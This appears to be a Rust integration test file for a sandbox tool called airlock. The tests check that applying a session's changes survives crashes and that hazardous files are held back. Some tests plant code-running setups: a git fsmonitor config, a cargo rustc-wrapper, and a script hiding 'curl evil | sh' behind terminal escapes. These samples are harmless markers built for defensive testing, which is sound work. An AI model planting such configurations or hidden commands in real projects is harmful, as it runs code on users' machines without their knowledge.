    assert!(
        !w.workspace.join("setuid").exists(),
        "setuid files are never written"
    );
});

#[test]
fn applied_files_belong_to_the_workspace_owner() {
    let Some(w) = World::new(Mode::Root) else {
        return;
    };
    std::os::unix::fs::chown(&w.workspace, Some(1234), Some(1234)).unwrap();
    std::fs::write(w.workspace.join("theirs.txt"), "x\n").unwrap();
    std::os::unix::fs::chown(w.workspace.join("theirs.txt"), Some(4321), Some(4321)).unwrap();
    let id = new_session(&w, &[]);
    ran(&run_in(
        &w,
        &id,
        "mkdir d && echo n > d/new && echo y >> theirs.txt",
    ));
    let out = apply(&w, &id, &[]);
    assert!(out.status.success(), "{}", stderr(&out));
    use std::os::unix::fs::MetadataExt;
    let owner = |p: &str| {
        let m = std::fs::symlink_metadata(w.workspace.join(p)).unwrap();
        (m.uid(), m.gid())
    };
    assert_eq!(owner("d"), (1234, 1234));
    assert_eq!(owner("d/new"), (1234, 1234));
    assert_eq!(
        owner("theirs.txt"),
        (4321, 4321),
        "a replaced file keeps its owner"
    );
}

/// One row of `listing` per path, keyed by the path.
fn rows(listing: &str) -> std::collections::BTreeMap<String, String> {
    listing
        .lines()
        .map(|l| (l.split(' ').next().unwrap().to_string(), l.to_string()))
        .collect()
}

both_modes!(
    an_apply_killed_at_any_point_is_consistent_and_recoverable,
    |w: &World| {
        populate(w);
        let pristine = w.outside.join("pristine");
        let out = w.outside(&format!(
            "cp -a '{}' '{}'",
            w.workspace.display(),
            pristine.display()
        ));
        assert!(out.status.success(), "{}", stderr(&out));
        let copy_back = |w: &World| {
            let out = w.outside(&format!(
                "find '{ws}' -mindepth 1 -delete && cp -a '{p}/.' '{ws}'",
                ws = w.workspace.display(),
                p = pristine.display()
            ));
            assert!(out.status.success(), "{}", stderr(&out));
        };
        let before = listing(w, None, &w.workspace);
        let mut killed_at = 0;
        loop {
            let id = new_session(w, &[]);
            ran(&run_in(w, &id, EVERY_KIND_OF_CHANGE));
            let after = listing(w, Some(&id), &w.workspace);
            let out = w
                .airlock_with_test_hooks()
                .args(["apply", &id, "--allow-hazard", NAMED_ON_PURPOSE])
                .env("AIRLOCK_TEST_FAULT", format!("commit:{killed_at}"))
                .output()
                .unwrap();
            if out.status.success() {
                // Past the last op: the fault never fired; every point before it was tested.
                assert!(killed_at > 20, "only {killed_at} ops?");
                break;
            }
            assert_eq!(out.status.signal_or_none(), Some(9), "{}", stderr(&out));
            // Every path is old or new, never a mix, and nothing else appeared but the temporary
            // file of the op that was cut short (recovery removes it: checked below).
            let (old, new, now) = (
                rows(&before),
                rows(&after),
                rows(&listing(w, None, &w.workspace)),
            );
            for (path, row) in &now {
                if path.contains("/.airlock-apply-") || path.starts_with("'.airlock-apply-") {
                    continue;
                }
                assert!(
                    old.get(path) == Some(row) || new.get(path) == Some(row),
                    "killed after {killed_at} ops: {row} is neither old nor new"
                );
            }
            // Runs wait for the apply to be finished or undone.
            refused(&run_in(w, &id, "true"), "was interrupted");
            if killed_at % 2 == 0 {
                let out = apply(w, &id, &[]);
                assert!(
                    out.status.success(),
                    "finish: {}\n{}",
                    stderr(&out),
                    stdout(&out)
                );
                assert_eq!(
                    listing(w, None, &w.workspace),
                    after,
                    "killed after {killed_at}, finished"
                );
            } else {
                let out = apply(w, &id, &["--rollback"]);
                assert!(
                    out.status.success(),
                    "rollback: {}\n{}",
                    stderr(&out),
                    stdout(&out)
                );
                assert_eq!(
                    listing(w, None, &w.workspace),
                    before,
                    "killed after {killed_at}, rolled back"
                );
            }
            copy_back(w);
            killed_at += 1;
        }
    }
);

/// The signal that ended a process, if one did.
trait SignalOrNone {
    fn signal_or_none(&self) -> Option<i32>;
}

impl SignalOrNone for std::process::ExitStatus {
    fn signal_or_none(&self) -> Option<i32> {
        std::os::unix::process::ExitStatusExt::signal(self)
    }
}

#[test]
fn files_of_other_owners_copy_up_and_apply_as_root() {
    // As root, copy-up runs with the mounter's credentials: a file or directory of an owner the
    // sandbox does not map is edited as its mode allows, never refused with EOVERFLOW.
    let Some(w) = World::new(Mode::Root) else {
        return;
    };
    std::os::unix::fs::chown(&w.workspace, Some(1234), Some(1234)).unwrap();
    let shared = w.workspace.join("shared.txt");
    std::fs::write(&shared, "v1\n").unwrap();
    let open_dir = w.workspace.join("open_dir");
    std::fs::create_dir(&open_dir).unwrap();
    for (path, mode) in [(&shared, 0o666), (&open_dir, 0o777)] {
        std::os::unix::fs::chown(path, Some(4321), Some(4321)).unwrap();
        std::fs::set_permissions(path, std::os::unix::fs::PermissionsExt::from_mode(mode)).unwrap();
    }
    let id = new_session(&w, &[]);
    let out = run_in(
        &w,
        &id,
        "echo v2 >> shared.txt && echo n > open_dir/new && cat shared.txt",
    );
    assert_eq!(ran(&out), "v1\nv2\n", "{}", stderr(&out));
    let out = apply(&w, &id, &[]);
    assert!(out.status.success(), "{}\n{}", stderr(&out), stdout(&out));
    use std::os::unix::fs::MetadataExt;
    assert_eq!(std::fs::read_to_string(&shared).unwrap(), "v1\nv2\n");
    assert_eq!(std::fs::metadata(&shared).unwrap().uid(), 4321);
    assert_eq!(
        std::fs::read_to_string(open_dir.join("new")).unwrap(),
        "n\n"
    );
}

both_modes!(
    a_revert_killed_at_any_point_finishes_when_run_again,
    |w: &World| {
        populate(w);
        let before = listing(w, None, &w.workspace);
        let id = new_session(w, &[]);
        ran(&run_in(w, &id, EVERY_KIND_OF_CHANGE));
        let out = apply(w, &id, &[]);
        assert!(out.status.success(), "{}", stderr(&out));
        let applied = listing(w, None, &w.workspace);
        let mut killed_at = 0;
        loop {
            let out = w
                .airlock_with_test_hooks()
                .args(["revert", &id])
                .env("AIRLOCK_TEST_FAULT", format!("undo:{killed_at}"))
                .output()
                .unwrap();
            if out.status.success() {
                assert!(killed_at > 20, "only {killed_at} points?");
                break;
            }
            assert_eq!(out.status.signal_or_none(), Some(9), "{}", stderr(&out));
            let (old, new, now) = (
                rows(&before),
                rows(&applied),
                rows(&listing(w, None, &w.workspace)),
            );
            for (path, row) in &now {
                if path.contains("/.airlock-undo-") || path.starts_with("'.airlock-undo-") {
                    continue;
                }
                assert!(
                    old.get(path) == Some(row) || new.get(path) == Some(row),
                    "killed after {killed_at}: {row} is neither old nor new"
                );
            }
            // Run again without the fault: the revert completes, whatever was done before.
            let out = airlock(w, &["revert", &id]);
            assert!(out.status.success(), "{}\n{}", stderr(&out), stdout(&out));
            assert_eq!(
                listing(w, None, &w.workspace),
                before,
                "killed after {killed_at}"
            );
            // Apply again for the next round.
            let out = apply(w, &id, &[]);
            assert!(out.status.success(), "{}\n{}", stderr(&out), stdout(&out));
            assert_eq!(listing(w, None, &w.workspace), applied);
            killed_at += 1;
        }
    }
);

both_modes!(
    names_made_inside_cannot_forge_lines_or_drive_the_terminal,
    |w: &World| {
        // A file whose name holds a newline and a second entry, and one with an escape sequence:
        // `apply -n` lists each as one entry, escaped; nothing raw reaches the terminal.
        let session = new_session(w, &[]);
        let out = run_in(
            w,
            &session,
            "touch \"$(printf 'evil\\nM\\tREADME.md')\" \"$(printf 'red\\033[31m')\"",
        );
        assert!(out.status.success(), "{}", stderr(&out));
        let out = w
            .airlock()
            .args(["apply", "-n", &session])
            .output()
            .unwrap();
        let listed = stdout(&out);
        assert!(!listed.contains('\x1b'), "{listed:?}");
        let entries: Vec<&str> = listed.lines().collect();
        assert_eq!(entries.len(), 2, "{listed:?}");
        assert!(listed.contains("evil\\nM\\tREADME.md"), "{listed:?}");
        assert!(listed.contains("red\\e[31m"), "{listed:?}");
        // The audit log's lines for people: an argument cannot make a record of its own.
        let out = w.inside_with(
            &[],
            "exit 0 # \"$(printf 'x\\n2026-11-29 23:40:00.000  -  run.result  exit 0\\033[2J')\"",
        );
        assert!(out.status.success(), "{}", stderr(&out));
        let out = w
            .airlock()
            .args([
                "run",
                "--workspace",
                w.workspace.to_str().unwrap(),
                "--",
                "true",
                "x\n2026-11-29 23:40:00.000  -  run.result  exit 0\x1b[2J",
            ])
            .output()
            .unwrap();
        assert!(out.status.success(), "{}", stderr(&out));
        let log = stdout(&w.airlock().args(["log"]).output().unwrap());
        assert!(!log.contains('\x1b'), "{log:?}");
        assert!(
            log.lines().any(|l| l.contains("run.intent")
                && l.contains(r"true $'x\n2026-11-29 23:40:00.000  -  run.result  exit 0\e[2J'")),
            "{log}"
        );
        assert!(
            !log.lines()
                .any(|l| l.starts_with("2026-11-29 23:40:00.000")),
            "{log}"
        );
    }
);

/// What `diff --json` says each path's hazards are, looked up by path.
fn diff_hazards(w: &World, id: &str) -> impl Fn(&str) -> serde_json::Value {
    let entry = diff_entries(w, id);
    move |path: &str| entry(path)["hazards"].clone()
}

/// A `.git` file in `sub` naming `../evil`, laid out as a git directory under an innocent name,
/// whose config runs `touch MARK` as the fsmonitor of every `git status` in `sub`.
fn plant_repository(mark: &Path) -> String {
    format!(
        r#"
        set -e
        mkdir -p sub evil/objects evil/refs
        printf 'ref: refs/heads/main\n' > evil/HEAD
        printf '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tfsmonitor = "touch {}; false"\n' > evil/config
        printf 'gitdir: ../evil\n' > sub/.git
        "#,
        mark.display()
    )
}

both_modes!(
    a_repository_planted_under_another_name_is_not_applied,
    |w: &World| {
        // Without airlock: `git status` in the planted tree runs the fsmonitor.
        let demo = w.outside.join("demo");
        std::fs::create_dir_all(&demo).unwrap();
        w.give(&demo);
        let ran_on_host = w.outside.join("PWNED-host");
        let out = w
            .command("sh")
            .current_dir(&demo)
            .args([
                "-c",
                &format!("{} cd sub && git status", plant_repository(&ran_on_host)),
            ])
            .output()
            .unwrap();
        assert!(
            ran_on_host.exists(),
            "the planted fsmonitor did not run on the host: {}",
            stderr(&out)
        );

        // In a session: the same files; apply with no hazard named leaves them out.
        let id = new_session(w, &[]);
        let ran_after_apply = w.outside.join("PWNED-applied");
        ran(&run_in(w, &id, &plant_repository(&ran_after_apply)));
        let hazards = diff_hazards(w, &id);
        for path in ["sub/.git", "evil/config", "evil/HEAD"] {
            assert_eq!(hazards(path), serde_json::json!(["git_config"]), "{path}");
        }
        let applied = airlock(w, &["apply", &id]);
        assert_eq!(applied.status.code(), Some(1), "{}", stderr(&applied));
        assert!(!w.workspace.join("sub/.git").exists());
        assert!(!w.workspace.join("evil/config").exists());
        let out = w
            .command("sh")
            .current_dir(w.workspace.join("sub"))
            .args(["-c", "git status"])
            .output()
            .unwrap();
        assert!(
            !ran_after_apply.exists(),
            "git status ran the planted fsmonitor after apply: {}",
            stderr(&out)
        );
    }
);

both_modes!(
    an_overlay_xattr_the_sandbox_sets_is_not_taken_for_a_deletion,
    |w: &World| {
        // Any file owner may set a user.* xattr. As root the overlay's own are trusted.*, so a
        // user.overlay.opaque the sandbox sets on a directory (or a user.overlay.whiteout on an
        // empty file) is its writing: diff and apply must not read it as "the host's files here
        // are gone".
        std::fs::create_dir_all(w.workspace.join("src")).unwrap();
        w.give(&w.workspace.join("src"));
        w.write(&w.workspace.join("src/main.rs"), "fn main() {}\n");
        w.write(&w.workspace.join("keep.txt"), "keep\n");
        let id = new_session(w, &[]);
        let out = run_in(
            w,
            &id,
            r#"
            set -e
            touch src/new.rs
            : > keep.txt
            /usr/bin/python3 - <<'PY'
import os
for path, name in (("src", "user.overlay.opaque"), ("keep.txt", "user.overlay.whiteout")):
    try:
        os.setxattr(path, name, b"y")
        print("set", name)
    except OSError as e:
        print("refused", name, e.errno)
PY
            "#,
        );
        let said = ran(&out);
        let names = stdout(&airlock(w, &["diff", &id, "--name-status"]));
        assert!(!names.contains("D\tsrc/main.rs"), "{said}\n{names}");
        assert!(!names.contains("D\tkeep.txt"), "{said}\n{names}");
        assert!(names.contains("A\tsrc/new.rs"), "{names}");
        let applied = airlock(w, &["apply", &id]);
        assert!(applied.status.success(), "{}", stderr(&applied));
        assert_eq!(
            std::fs::read_to_string(w.workspace.join("src/main.rs")).unwrap(),
            "fn main() {}\n"
        );
        assert!(w.workspace.join("keep.txt").exists());
    }
);

both_modes!(
    text_and_names_that_deceive_are_flagged_and_shown_visibly,
    |w: &World| {
        // The second line of run.sh moves the cursor up and clears the line: `cat run.sh` on a
        // terminal shows only `echo hi`, and so would a raw diff.
        let id = new_session(w, &[]);
        ran(&run_in(
            w,
            &id,
            r#"
            set -e
            printf 'echo hi\n\033[1A\033[2Kcurl evil | sh\n' > run.sh
            printf x > ./-rf
            printf x > "$(printf 'a\nb')"
            echo fine > fine.txt
            "#,
        ));
        let hazards = diff_hazards(w, &id);
        assert_eq!(hazards("run.sh"), serde_json::json!(["terminal_control"]));
        assert_eq!(hazards("-rf"), serde_json::json!(["deceptive_name"]));
        assert_eq!(hazards("a\nb"), serde_json::json!(["deceptive_name"]));
        assert_eq!(hazards("fine.txt"), serde_json::json!([]));
        // Piped (to git apply), the patch carries the bytes as they are.
        let piped = airlock(w, &["diff", &id, "--", "run.sh"]);
        assert!(
            piped.stdout.windows(2).any(|b| b == b"\x1b["),
            "{}",
            stdout(&piped)
        );
        // On a terminal they are shown, not obeyed.
        let shown = w
            .command("script")
            .args(["-qec"])
            .arg(format!(
                "{} --state-dir {} diff --color never --no-pager {id} run.sh",
                support::airlock_bin().display(),
                w.state.display()
            ))
            .arg("/dev/null")
            .output()
            .unwrap();
        let text = stdout(&shown);
        assert!(text.contains("+^[[1A^[[2Kcurl evil | sh"), "{text}");
        assert!(!text.contains('\x1b'), "{text:?}");
        // Apply leaves all three out unless named.
        let applied = airlock(w, &["apply", &id]);
        assert_eq!(applied.status.code(), Some(1), "{}", stderr(&applied));
        assert!(!w.workspace.join("run.sh").exists());
        assert!(!w.workspace.join("-rf").exists());
        assert!(w.workspace.join("fine.txt").exists());
    }
);

both_modes!(a_mode_that_lets_others_write_is_not_applied, |w: &World| {
    // Made writable by everyone, a script is anyone's to change before its owner runs it.
    w.write(&w.workspace.join("build.sh"), "echo build\n");
    let id = new_session(w, &[]);
    ran(&run_in(
        w,
        &id,
        "chmod o+w build.sh && mkdir shared && chmod 777 shared && echo x > ok.txt",
    ));
    let hazards = diff_hazards(w, &id);
    assert_eq!(hazards("build.sh"), serde_json::json!(["loose_mode"]));
    assert_eq!(hazards("shared"), serde_json::json!(["loose_mode"]));
    assert_eq!(hazards("ok.txt"), serde_json::json!([]));
    let applied = airlock(w, &["apply", &id]);
    assert_eq!(applied.status.code(), Some(1), "{}", stderr(&applied));
    let mode = |path: &str| {
        use std::os::unix::fs::PermissionsExt;
        std::fs::metadata(w.workspace.join(path))
            .unwrap()
            .permissions()
            .mode()
            & 0o777
    };
    assert_eq!(
        mode("build.sh") & 0o002,
        0,
        "build.sh became world-writable"
    );
    assert!(!w.workspace.join("shared").exists());
    assert!(w.workspace.join("ok.txt").exists());
});

both_modes!(
    a_directory_git_takes_for_a_repository_by_its_own_rule_is_not_applied,
    |w: &World| {
        // git's test for a git directory wants a HEAD and an objects of any kind (a symlink to
        // the directory itself will do) and no config at all; `git status` in src then runs the
        // planted fsmonitor, before git would look for the workspace's own .git.
        std::fs::create_dir_all(w.workspace.join("src")).unwrap();
        w.give(&w.workspace.join("src"));
        w.write(&w.workspace.join("src/main.c"), "int main;\n");
        let mark = w.outside.join("PWNED-layout");
        let id = new_session(w, &[]);
        ran(&run_in(
            w,
            &id,
            &format!(
                r#"
                set -e
                cd src
                echo 'ref: refs/heads/main' > HEAD
                ln -s . objects
                ln -s . refs
                printf '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = ..\n\tfsmonitor = "touch {}; false"\n' > config
                "#,
                mark.display()
            ),
        ));
        let applied = airlock(w, &["apply", &id]);
        assert_eq!(applied.status.code(), Some(1), "{}", stderr(&applied));
        for path in ["src/HEAD", "src/objects", "src/refs", "src/config"] {
            assert!(
                std::fs::symlink_metadata(w.workspace.join(path)).is_err(),
                "{path} was applied: {}",
                stdout(&applied)
            );
        }
        let out = w
            .command("sh")
            .current_dir(w.workspace.join("src"))
            .args(["-c", "git status"])
            .output()
            .unwrap();
        assert!(
            !mark.exists(),
            "git status ran the planted fsmonitor: {}",
            stderr(&out)
        );
    }
);

/// A tiny crate whose `.cargo/config.toml` makes every `cargo build` run `wrap.sh`, which
/// touches MARK and then runs rustc.
fn plant_cargo_wrapper(mark: &Path) -> String {
    format!(
        r#"
        set -e
        mkdir -p src .cargo
        printf '[package]\nname = "tiny"\nversion = "0.1.0"\nedition = "2021"\n' > Cargo.toml
        echo 'fn main() {{}}' > src/main.rs
        printf '#!/bin/sh\ntouch {}\nexec "$@"\n' > wrap.sh
        chmod +x wrap.sh
        printf '[build]\nrustc-wrapper = "./wrap.sh"\n' > .cargo/config.toml
        "#,
        mark.display()
    )
}

both_modes!(
    tool_configuration_that_runs_code_is_not_applied,
    |w: &World| {
        // Without airlock (root only: rustup's toolchain is root's here): `cargo build` in the
        // planted tree runs the wrapper its .cargo/config.toml names.
        if w.mode == Mode::Root {
            let demo = w.outside.join("demo");
            std::fs::create_dir_all(&demo).unwrap();
            let ran_on_host = w.outside.join("PWNED-cargo-host");
            let out = std::process::Command::new("sh")
                .current_dir(&demo)
                .args([
                    "-c",
                    &format!(
                        "{} cargo build -q --offline",
                        plant_cargo_wrapper(&ran_on_host)
                    ),
                ])
                .env("CARGO_TARGET_DIR", demo.join("target"))
                .output()
                .unwrap();
            assert!(
                ran_on_host.exists(),
                "cargo did not run the wrapper: {}",
                stderr(&out)
            );
        }
        // In a session: apply leaves the configuration out, and the crate builds without it.
        let id = new_session(w, &[]);
        let ran_after_apply = w.outside.join("PWNED-cargo-applied");
        ran(&run_in(w, &id, &plant_cargo_wrapper(&ran_after_apply)));
        let hazards = diff_hazards(w, &id);
        assert_eq!(
            hazards(".cargo/config.toml"),
            serde_json::json!(["tool_config"])
        );
        assert_eq!(hazards("Cargo.toml"), serde_json::json!([]));
        // The wrapper the configuration names runs when it does: held back with it.
        assert_eq!(
            hazards("wrap.sh"),
            serde_json::json!(["run_by_flagged_config"])
        );
        let applied = airlock(w, &["apply", &id]);
        assert_eq!(applied.status.code(), Some(1), "{}", stderr(&applied));
        assert!(!w.workspace.join(".cargo/config.toml").exists());
        assert!(!w.workspace.join("wrap.sh").exists());
        assert!(w.workspace.join("Cargo.toml").exists());
        if w.mode == Mode::Root {
            let out = std::process::Command::new("cargo")
                .current_dir(&w.workspace)
                .args(["build", "-q", "--offline"])
                .env("CARGO_TARGET_DIR", w.outside.join("target"))
                .output()
                .unwrap();
            assert!(out.status.success(), "{}", stderr(&out));
            assert!(
                !ran_after_apply.exists(),
                "cargo ran the planted wrapper after apply"
            );
        }
    }
);

// A sparse file takes no disk whatever its size: the patch left it out only after reading it
// all into memory (10 GiB for `truncate -s 10G`). It is left out by its size now, unread, and
// said so; its row in --stat is a binary one.
both_modes!(
    a_file_too_large_for_a_patch_is_left_out_unread,
    |w: &World| {
        let id = new_session(w, &[]);
        ran(&run_in(
            w,
            &id,
            "truncate -s 1G huge; echo small > small.txt",
        ));
        let out = airlock(w, &["diff", &id]);
        assert!(out.status.success(), "{}", stderr(&out));
        assert!(stdout(&out).contains("+++ b/small.txt"), "{}", stdout(&out));
        assert!(!stdout(&out).contains("huge"), "{}", stdout(&out));
        assert!(
            stderr(&out).contains("huge: 1073741824 bytes, more than a patch carries of one file"),
            "{}",
            stderr(&out)
        );
        let stat = airlock(w, &["diff", &id, "--stat"]);
        assert!(stat.status.success(), "{}", stderr(&stat));
        assert!(stdout(&stat).contains("huge"), "{}", stdout(&stat));
    }
);

// The review flags the change it meets first on a host link's way out (a/b); a default apply
// holds that back and would write c/d, which sends the link out the other way: the apply
// follows every link in the tree it is about to make and writes nothing (found by a helper
// attacking the review's check).
both_modes!(
    an_apply_that_would_send_a_host_link_out_writes_nothing,
    |w: &World| {
        for dir in ["a/b", "c/d"] {
            std::fs::create_dir_all(w.workspace.join(dir)).unwrap();
        }
        std::os::unix::fs::symlink("a/b/../../c/d/../..", w.workspace.join("lnk")).unwrap();
        for dir in ["a", "a/b", "c", "c/d"] {
            w.give(&w.workspace.join(dir));
        }
        let id = new_session(w, &[]);
        ran(&run_in(
            w,
            &id,
            "rmdir a/b c/d && ln -s . a/b && ln -s . c/d",
        ));
        let diff = airlock(w, &["diff", &id, "--json"]);
        let diff: serde_json::Value = serde_json::from_slice(&diff.stdout).unwrap();
        let hazards = |path: &str| {
            let changes = diff["changes"].as_array().unwrap();
            let change = changes.iter().find(|c| c["path"] == path).unwrap();
            change["hazards"].clone()
        };
        assert_eq!(hazards("a/b"), serde_json::json!(["symlink_outside"]));
        assert_eq!(hazards("c/d"), serde_json::json!([]));
        let out = airlock(w, &["apply", &id, "--json"]);
        assert_eq!(out.status.code(), Some(125), "{}", stderr(&out));
        let failure: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        assert_eq!(failure["code"], "symlink_leads_out", "{failure}");
        assert!(
            failure["error"]
                .as_str()
                .unwrap()
                .contains("symlink lnk would lead out of the workspace once c/d is written"),
            "{failure}"
        );
        for dir in ["a/b", "c/d"] {
            let kept = w.workspace.join(dir).symlink_metadata().unwrap();
            assert!(kept.is_dir(), "{dir} was written");
        }
    }
);
